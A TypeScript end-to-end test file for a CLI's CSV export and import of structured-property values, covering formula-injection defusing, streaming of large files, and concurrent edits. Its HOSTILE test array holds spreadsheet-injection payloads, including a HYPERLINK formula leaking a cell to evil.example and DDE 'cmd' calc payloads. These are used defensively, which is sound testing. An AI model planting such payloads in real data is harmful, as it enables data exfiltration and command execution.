/**
 * `propgraph values export` and `values import` end to end (issue #46 items 8 and 16):
 * the built CLI as a subprocess against a real server.
 * - Values a spreadsheet would run as formulas are exported with a `'` before them
 *   (OWASP's advice), and the exported file imports back to the same values.
 * - An import streams its file: a file far larger than the CLI's heap is checked whole
 *   (every row against the server) inside that heap; the whole-file reader ran out of
 *   memory on it.
 * - An entity changed between the import's check and its write gets the file's cells
 *   applied to its values as they are then, and is named (issue #39); run in process,
 *   so that the change lands exactly between the two passes.
 */
import { spawn } from 'node:child_process';
import { closeSync, openSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { importValues } from '../../src/cli/commands/valuesCsvImport.js';
import { createContext } from '../../src/cli/context.js';
import { formatCsvRecord, parseCsv } from '../../src/cli/files/csvFile.js';
import { createDatasets, setProperties } from '../support/fixtures.js';
import { enc, http } from '../support/http.js';
import { searchAvailableForTests, startTestServer, type TestServer } from '../support/server.js';
import { cliMain, ensureCliBuilt, runCli, tempDir, writeFile, type CliResult } from './cliRunner.js';

let server: TestServer;
let home: string;

const NOTES = 'urn:li:structuredProperty:io.csv.notes';
const WIDE_URN = 'urn:li:structuredProperty:io.csv.wide';
const dataset = (name: string) => `urn:li:dataset:(urn:li:dataPlatform:hive,csv.${name},PROD)`;
const cli = (args: string[], env?: Record<string, string>): Promise<CliResult> => runCli(args, { home, server: server.url, ...(env ? { env } : {}) });
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|...', '\t=1+1', "'quoted already", 'plain'];

async function notesOf(urn: string): Promise<unknown> {
  const res = await http(server.url, 'GET', `/openapi/v3/entity/dataset/${enc(urn)}/structuredProperties`);
  return (res.body?.structuredProperties?.value?.properties ?? []).find((p: { propertyUrn: string }) => p.propertyUrn === NOTES)?.values;
}

(searchAvailableForTests() ? describe : describe.skip)('values as CSV', () => {
  beforeAll(async () => {
    await ensureCliBuilt();
    server = await startTestServer({ search: true });
    home = tempDir();
    for (const [id, cardinality] of [['io.csv.notes', 'SINGLE'], ['io.csv.wide', 'MULTIPLE']]) {
      const res = await http(server.url, 'POST', `/openapi/v3/entity/structuredProperty/${enc(`urn:li:structuredProperty:${id}`)}/propertyDefinition`, {
        json: { value: { qualifiedName: id, valueType: 'urn:li:dataType:datahub.string', entityTypes: ['urn:li:entityType:datahub.dataset'], cardinality } },
      });
      expect(res.status).toBe(200);
    }
    await createDatasets(server.url, HOSTILE.map((_, i) => dataset(`h${i}`)));
    for (const [i, value] of HOSTILE.entries()) expect((await setProperties(server.url, dataset(`h${i}`), [{ propertyUrn: NOTES, values: [{ string: value }] }])).status).toBe(200);
  }, 180_000);

  afterAll(async () => {
    await server?.stop();
    if (home) rmSync(home, { recursive: true, force: true });
  });

  test("an export defuses every cell a spreadsheet would run, and imports back to the same values", async () => {
    const exported = await cli(['values', 'export', '--property', 'io.csv.notes']);
    expect(exported.code).toBe(0);
    const records = parseCsv(exported.stdout, 'export.csv');
    expect(records).toHaveLength(HOSTILE.length + 1);
    // Read as a spreadsheet reads it: no cell starts a formula.
    const raw = exported.stdout.split('\n').slice(1).filter(Boolean);
    for (const line of raw) {
      const cell = line.slice(line.indexOf(',PROD),') + ',PROD),'.length).replace(/^"/, '');
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(exported.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
    expect(exported.stdout).toContain("'+cmd\\|' /C calc'!A0");
    expect(exported.stdout).toContain("''quoted already");
    const file = writeFile(home, 'notes.csv', exported.stdout);
    const imported = await cli(['values', 'import', '-f', file]);
    expect(imported.stderr).toBe('');
    expect(imported.stdout).toContain(`0 entities updated, ${HOSTILE.length} unchanged, 0 failed`);
    for (const [i, value] of HOSTILE.entries()) expect(await notesOf(dataset(`h${i}`))).toEqual([{ string: value }]);
  }, 120_000);

  test('a file that a spreadsheet saved with a defused cell sets the value without the quote mark', async () => {
    const file = writeFile(home, 'edited.csv', `urn,io.csv.notes\n"${dataset('h6')}",'=1+1\n`);
    const imported = await cli(['values', 'import', '-f', file]);
    expect(imported.code).toBe(0);
    expect(await notesOf(dataset('h6'))).toEqual([{ string: '=1+1' }]);
  }, 60_000);

  test('an import checks a file many times the size of its heap, row by row against the server, without holding it', async () => {
    const urns = Array.from({ length: 1000 }, (_, i) => dataset(`w${String(i).padStart(4, '0')}`));
    await createDatasets(server.url, urns);
    // 1,000 rows of 300 values of 60 characters: 18 MB of cells, 300,000 values to check.
    const cell = (i: number) => Array.from({ length: 300 }, (_, k) => `v${i}-${k}-${'x'.repeat(52)}`).join('|');
    const text = `urn,io.csv.wide\n${urns.map((u, i) => formatCsvRecord([u, cell(i)])).join('\n')}\n`;
    expect(text.length).toBeGreaterThan(18e6);
    const file = writeFile(home, 'wide.csv', text);
    // Its output (every change, value by value: as large as the file) goes to a file, which takes it as it comes, as a terminal would.
    const outFile = path.join(home, 'wide.out');
    const out = openSync(outFile, 'w');
    const child = spawn(process.execPath, [cliMain, 'values', 'import', '-f', file, '--dry-run'], {
      cwd: home,
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, PROPGRAPH_SERVER: server.url, NODE_OPTIONS: '--max-old-space-size=48' },
      stdio: ['ignore', out, 'pipe'],
    });
    let stderr = '';
    child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    closeSync(out);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(readFileSync(outFile, 'utf8')).toContain('1000 rows are valid; 1000 properties would change on 1000 of 1000 entities');
  }, 300_000);

  test('an entity changed after the import checked the file gets the file\'s cells applied to its values as they are then, and is named', async () => {
    const urn = dataset('h5');
    const file = writeFile(home, 'since.csv', `${formatCsvRecord(['urn', 'io.csv.notes'])}\n${formatCsvRecord([urn, 'from the file'])}\n`);
    let batchReads = 0;
    // Between the check's read of the entity and the write's: another steward sets another property on it.
    const meddling: typeof fetch = async (input, init) => {
      if (String(input).endsWith('/batchGet') && ++batchReads === 2) {
        expect((await setProperties(server.url, urn, [{ propertyUrn: NOTES, values: [{ string: 'plain' }] }, { propertyUrn: WIDE_URN, values: [{ string: 'theirs' }] }])).status).toBe(200);
      }
      return fetch(input, init);
    };
    let stdout = '';
    let stderr = '';
    const terminal = { stdout: { write: (t: string) => ((stdout += t), true) }, stderr: { write: (t: string) => ((stderr += t), true) }, stdin: Readable.from([]) };
    const ctx = createContext(terminal as never, { env: { PROPGRAPH_SERVER: server.url }, home }, meddling);
    expect(await importValues(ctx, { file })).toBe(0);
    expect(batchReads).toBe(2);
    expect(stderr).toContain(`since.csv:2: ${urn}: changed since the file was checked; its cells are applied to its values as they are now`);
    expect(stdout).toContain('1 entities updated, 0 unchanged, 0 failed');
    expect(stdout).toContain('1 of them changed since the file was checked');
    const held = (await http(server.url, 'GET', `/openapi/v3/entity/dataset/${enc(urn)}/structuredProperties`)).body.structuredProperties.value.properties;
    expect(held).toEqual(expect.arrayContaining([{ propertyUrn: NOTES, values: [{ string: 'from the file' }] }, { propertyUrn: WIDE_URN, values: [{ string: 'theirs' }] }]));
  }, 60_000);
});
